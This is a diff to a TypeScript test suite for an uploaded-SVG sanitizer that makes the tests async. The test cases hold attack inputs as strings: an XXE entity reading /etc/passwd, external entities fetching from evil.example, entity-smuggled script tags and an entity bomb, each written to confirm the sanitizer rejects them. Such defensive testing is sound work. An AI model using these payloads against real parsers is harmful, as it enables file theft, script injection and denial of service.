@@ -5,7 +5,7 @@ import { looksLikeSvg, sanitizeSvg } from './svg.sanitizer';
 const SVG = 'xmlns="http://www.w3.org/2000/svg"';
 const XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"';
 
-const sanitized = (text: string) => sanitizeSvg(Buffer.from(text))?.toString('utf8') ?? null;
+const sanitized = async (text: string) => (await sanitizeSvg(Buffer.from(text)))?.toString('utf8') ?? null;
 
 /** The document a browser would build from the stored file: null when it is not a well-formed SVG. */
 function parsed(text: string): Document | null {
@@ -55,22 +55,22 @@ describe('uploaded SVG sanitizer', () => {
     'plain-text entity spelling markup': `<!DOCTYPE svg [<!ENTITY lt2 "&#60;script&#62;alert(1)&#60;/script&#62;">]><svg ${SVG}><text>&lt2;</text></svg>`,
   };
 
-  it.each(Object.entries(attacks))('leaves nothing active from: %s', (_name, attack) => {
+  it.each(Object.entries(attacks))('leaves nothing active from: %s', async (_name, attack) => {
     expect(looksLikeSvg(Buffer.from(attack))).toBe(true);
-    expectInert(sanitized(attack));
+    expectInert(await sanitized(attack));
   });
 
-  it('refuses entity tricks outright: external entities (XXE), markup in an entity, entity bombs', () => {
+  it('refuses entity tricks outright: external entities (XXE), markup in an entity, entity bombs', async () => {
     const xxe = `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><svg ${SVG}><text>&xxe;</text></svg>`;
     const unused = `<!DOCTYPE svg [<!ENTITY xxe SYSTEM "http://evil.example/x">]><svg ${SVG}><circle r="1"/></svg>`;
     const parameter = `<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><svg ${SVG}/>`;
     const markup = `<!DOCTYPE svg [<!ENTITY s "<script>alert(1)</script>">]><svg ${SVG}>&s;</svg>`;
     const bomb = `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><svg ${SVG}><text>&c;</text></svg>`;
     const undeclared = `<svg ${SVG}><text>&nbsp;</text></svg>`;
-    for (const attack of [xxe, unused, parameter, markup, bomb, undeclared]) expect(sanitized(attack)).toBeNull();
+    for (const attack of [xxe, unused, parameter, markup, bomb, undeclared]) expect(await sanitized(attack)).toBeNull();
   });
 
-  it('keeps an old Illustrator export whose namespaces are plain-text entities', () => {
+  it('keeps an old Illustrator export whose namespaces are plain-text entities', async () => {
     const old = `<?xml version="1.0" encoding="utf-8"?>
 <!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [
   <!ENTITY ns_svg "http://www.w3.org/2000/svg">
@@ -79,19 +79,19 @@ describe('uploaded SVG sanitizer', () => {
 <svg version="1.1" xmlns="&ns_svg;" xmlns:xlink="&ns_xlink;" width="20" height="20" viewBox="0 0 20 20">
   <circle fill="#D32F2F" cx="10" cy="10" r="9"/>
 </svg>`;
-    const clean = sanitized(old);
+    const clean = await sanitized(old);
     expectInert(clean);
     expect(parsed(clean!)?.getElementsByTagName('circle')[0]?.getAttribute('fill')).toBe('#D32F2F');
   });
 
-  it('refuses what is not an SVG document: no SVG namespace, broken XML, a NUL byte', () => {
-    expect(sanitized('<svg><circle r="1"/></svg>')).toBeNull();
-    expect(sanitized(`<svg ${SVG}><circle r="1"></svg>`)).toBeNull();
-    expect(sanitized(`<svg ${SVG}><text>a\u0000b</text></svg>`)).toBeNull();
-    expect(sanitized(`<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>`)).toBeNull();
+  it('refuses what is not an SVG document: no SVG namespace, broken XML, a NUL byte', async () => {
+    expect(await sanitized('<svg><circle r="1"/></svg>')).toBeNull();
+    expect(await sanitized(`<svg ${SVG}><circle r="1"></svg>`)).toBeNull();
+    expect(await sanitized(`<svg ${SVG}><text>a\u0000b</text></svg>`)).toBeNull();
+    expect(await sanitized(`<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>`)).toBeNull();
   });
 
-  it('keeps a normal logo whole: prolog, CDATA styles, gradients, local use, text and an embedded raster', () => {
+  it('keeps a normal logo whole: prolog, CDATA styles, gradients, local use, text and an embedded raster', async () => {
     const logo = `<?xml version="1.0" encoding="UTF-8"?>
 <!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
 <!-- Generator: Adobe Illustrator -->
@@ -110,7 +110,7 @@ describe('uploaded SVG sanitizer', () => {
   <image width="4" height="4" href="data:image/png;base64,iVBORw0KGgo="/>
   <text x="46" y="26" font-family="Arial" font-size="14" fill="#263238">Fuerza&#160;&amp;&#160;Salud</text>
 </svg>`;
-    const clean = sanitized(logo);
+    const clean = await sanitized(logo);
     expect(clean).not.toBeNull();
     expectInert(clean);
     const document = parsed(clean!)!;
@@ -127,6 +127,6 @@ describe('uploaded SVG sanitizer', () => {
     expect(document.getElementsByTagName('text')[0]?.textContent).toBe('Fuerza\u00a0&\u00a0Salud');
     expect(document.getElementsByTagName('title')[0]?.textContent).toBe('Gimnasio Fuerza & Salud');
     // Stored once more it is the same file: nothing left to remove.
-    expect(sanitized(clean!)).toBe(clean);
+    expect(await sanitized(clean!)).toBe(clean);
   });
 });
